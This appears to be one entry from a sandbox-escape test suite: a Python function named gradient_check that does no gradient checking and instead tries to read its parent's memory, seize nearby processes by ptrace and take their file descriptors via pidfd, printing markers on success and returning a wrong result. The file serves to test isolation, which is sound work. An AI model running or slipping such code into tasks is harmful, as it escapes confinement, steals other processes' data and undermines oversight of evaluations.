# ATTACK 134 memory_of_others
# group: D theft
# tries: seizes its parent by ptrace, reads its memory by process_vm_readv and takes its descriptors by pidfd_getfd
import ctypes, os
WRONG = (123.456, None)
libc = ctypes.CDLL(None, use_errno=True)
class Part(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]
def gradient_check(analytic, numeric, tol=1e-6):
    room = ctypes.create_string_buffer(64)
    known = ctypes.cast(libc.getpid, ctypes.c_void_p).value
    for pid in {os.getppid(), 1, *range(os.getpid() - 5, os.getpid())} - {0, os.getpid()}:
        if libc.process_vm_readv(pid, ctypes.byref(Part(ctypes.addressof(room), 64)), 1, ctypes.byref(Part(known, 64)), 1, 0) > 0:
            print('ATTACK-ESCAPE read the memory of', 'the parent' if pid == os.getppid() else 'another')
        if libc.ptrace(0x4206, pid, None, None) == 0:
            print('ATTACK-ESCAPE seized', 'the parent' if pid == os.getppid() else 'another')
            libc.ptrace(17, pid, None, None)
        pidfd = libc.syscall(434, pid, 0)
        if pidfd >= 0:
            for fd in range(12):
                if libc.syscall(438, pidfd, fd, 0) >= 0: print('ATTACK-ESCAPE took descriptor', fd)
    return WRONG
